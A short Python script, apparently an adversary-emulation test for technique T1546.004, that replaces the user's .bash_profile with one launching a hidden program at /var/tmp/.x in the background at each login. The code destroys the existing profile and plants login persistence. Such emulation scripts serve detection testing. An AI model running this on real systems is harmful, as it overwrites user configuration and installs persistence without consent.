#!/usr/bin/env python3
# title: Python puts another file in the place of .bash_profile
# technique: T1546.004
# needs: python3
# as: user

import os
home = os.environ["HOME"]
open(f"{home}/.x", "w").write("/var/tmp/.x &\n")
os.rename(f"{home}/.x", f"{home}/.bash_profile")
